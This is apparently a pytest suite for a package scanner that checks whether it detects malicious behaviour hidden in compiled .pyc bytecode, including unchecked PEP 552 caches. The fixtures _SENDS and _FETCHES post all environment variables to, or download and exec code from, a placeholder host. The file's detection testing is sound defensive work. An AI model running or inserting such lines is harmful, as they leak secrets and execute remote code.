"""Byte code is read where Python would run it, and only there."""

from __future__ import annotations

import importlib.util
import marshal

import pytest

from pratique.screen import screen_bytes
from pratique.verdict import Report, Verdict
from tests.support.distributions import make_wheel_of

_SENDS = "import os, urllib.request as u\nu.urlopen('http://192.0.2.1/', data=str(dict(os.environ)).encode())\n"
_FETCHES = "import urllib.request as u\nexec(u.urlopen('http://192.0.2.1/a').read())\n"


def _pyc(source: str, flags: int = 0) -> bytes:
    header = importlib.util.MAGIC_NUMBER + flags.to_bytes(4, "little") + bytes(8)
    return header + marshal.dumps(compile(source, "x.py", "exec"))


def _screened(files: dict[str, bytes]) -> Report:
    return screen_bytes(make_wheel_of(files), filename="example_pkg-1.0-py3-none-any.whl")


@pytest.mark.parametrize(("source", "rule"), [(_SENDS, "theft"), (_FETCHES, "second-stage")])
def test_a_chain_in_a_module_without_source_is_proven(source: str, rule: str) -> None:
    """What byte code does when it is imported is judged like source."""
    report = _screened({"example_pkg/__init__.py": b"from . import x\n", "example_pkg/x.pyc": _pyc(source)})
    assert report.verdict is Verdict.MALICIOUS
    assert rule in {f.rule for f in report.findings if f.proven}


def test_a_cache_that_is_never_checked_runs_instead_of_its_source() -> None:
    """An unchecked cache (PEP 552) is read although its source lies beside it."""
    tag = f"cpython-{importlib.util.MAGIC_NUMBER[0]}"
    files = {
        "example_pkg/__init__.py": b"",
        "example_pkg/x.py": b"x = 1\n",
        f"example_pkg/__pycache__/x.{tag}.pyc": _pyc(_FETCHES, 1),
    }
    assert _screened(files).verdict is Verdict.MALICIOUS


def test_a_cache_that_is_checked_is_overruled_by_its_source() -> None:
    """Stray caches of honest sources are not read a second time."""
    files = {"example_pkg/x.py": b"x = 1\n", "example_pkg/__pycache__/x.cpython-311.pyc": _pyc(_FETCHES)}
    assert not [f for f in _screened(files).findings if f.rule != "metadata-claims"]


def test_a_cache_that_claims_to_be_of_its_source_is_compared_with_it() -> None:
    """A cache of the right size runs: names that its source does not have are a finding, and what it does is judged."""
    source = b"x = 1\n"
    path = "example_pkg/__pycache__/x.cpython-311.pyc"
    claims, same = (
        _pyc(text)[:12] + len(source).to_bytes(4, "little") + _pyc(text)[16:] for text in (_FETCHES, "x = 1\n")
    )
    assert _screened({"example_pkg/x.py": source, path: claims}).verdict is Verdict.MALICIOUS
    assert "bytecode" not in {f.rule for f in _screened({"example_pkg/x.py": source, path: same}).findings}


def test_names_that_the_compiler_makes_are_not_missing_from_the_source() -> None:
    """Honest wheels carry caches: private names hold their class, and `assert` asked for its error by name."""
    source = "class _De__mo:\n    def __init__(self):\n        self.__inner_one = 1\n        assert self.__inner_one\n"
    older = source.replace("assert", "raise AssertionError and")
    path = "example_pkg/__pycache__/x.cpython-311.pyc"
    for text in (source, older, older.replace("__inner_one", "__another_one")):
        cache = _pyc(text)[:12] + len(source).to_bytes(4, "little") + _pyc(text)[16:]
        found = {f.rule for f in _screened({"example_pkg/x.py": source.encode(), path: cache}).findings}
        assert ("bytecode" in found) is ("another" in text)


def test_damaged_byte_code_is_told() -> None:
    """Byte code that cannot be read to its end is a finding, not a pass."""
    files = {"example_pkg/__init__.py": b"", "example_pkg/a.py": b"", "example_pkg/x.pyc": _pyc(_FETCHES)[:60]}
    assert any("cannot be read" in f.message for f in _screened(files).findings)
